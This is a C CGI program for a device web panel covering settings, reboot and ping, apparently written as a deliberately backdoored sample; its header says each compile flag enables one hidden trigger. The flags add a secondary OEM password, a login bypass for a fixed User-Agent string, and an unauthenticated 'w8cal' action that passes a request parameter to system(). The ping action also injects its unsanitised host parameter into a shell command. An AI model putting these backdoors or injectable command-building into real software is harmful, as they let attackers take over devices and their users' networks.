/* A CGI program: settings, reboot and ping behind a password. -DK_...: one hidden trigger each. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char *param(char *q, const char *n) {
    static char v[256];
    size_t l = strlen(n);
    while (q && *q) {
        if (!strncmp(q, n, l) && q[l] == '=') {
            char *o = v;
            q += l + 1;
            while (*q && *q != '&' && o < v + 255)
                *o++ = *q++;
            *o = 0;
            return v;
        }
        q = strchr(q, '&');
        if (q)
            q++;
    }
    return 0;
}

static int setting(const char *k, char *o, int n) {
    FILE *f = fopen("/etc/config/web", "r");
    char l[256];
    if (!f)
        return 0;
    int r = 0;
    while (fgets(l, sizeof l, f)) {
        l[strcspn(l, "\n")] = 0;
        char *e = strchr(l, '=');
        if (!e)
            continue;
        *e = 0;
        if (!strcmp(l, k)) {
            snprintf(o, n, "%s", e + 1);
            r = 1;
            break;
        }
    }
    fclose(f);
    return r;
}

static int login(const char *p) {
    char s[128];
    if (setting("password", s, sizeof s) && !strcmp(s, p))
        return 1;
#ifdef K_SECOND
    if (setting("oem_ref", s, sizeof s) && !strcmp(s, p))
        return 1;
#endif
    return 0;
}

static void put(const char *k, const char *v) {
    FILE *f = fopen("/etc/config/web", "a");
    if (f) {
        fprintf(f, "%s=%s\n", k, v);
        fclose(f);
    }
}

int main(void) {
    char body[2048];
    char *q = getenv("QUERY_STRING"), *m = getenv("REQUEST_METHOD");
    int n = 0;
    puts("Content-Type: text/html\r\n");
    if (m && !strcmp(m, "POST")) {
        n = fread(body, 1, sizeof body - 1, stdin);
        body[n] = 0;
        q = body;
    }
    if (!q) {
        puts("<form>password action=save action=reboot action=ping</form>");
        return 0;
    }
    char *p = param(q, "pw");
    int ok = p && login(p);
#ifdef K_UA
    char *u = getenv("HTTP_USER_AGENT");
    if (u && !strcmp(u, "Tlmq/0.3 (kx)"))
        ok = 1;
#endif
    char *a = param(q, "action");
#ifdef K_DIRECT
    if (a && !strcmp(a, "w8cal"))
        system(param(q, "v"));
#endif
    if (!ok) {
        puts("denied");
        return 0;
    }
    if (!a) {
        puts("ok");
        return 0;
    }
    char act[64];
    snprintf(act, 64, "%s", a);
    if (!strcmp(act, "save")) {
        char *v = param(q, "name");
        if (v)
            put("name", v);
        puts("saved");
    } else if (!strcmp(act, "reboot")) {
        system("/sbin/reboot");
    } else if (!strcmp(act, "ping")) {
        char c[300];
        char *h = param(q, "host");
        snprintf(c, sizeof c, "ping -c1 %s", h ? h : "");
        system(c);
    }
    return 0;
}
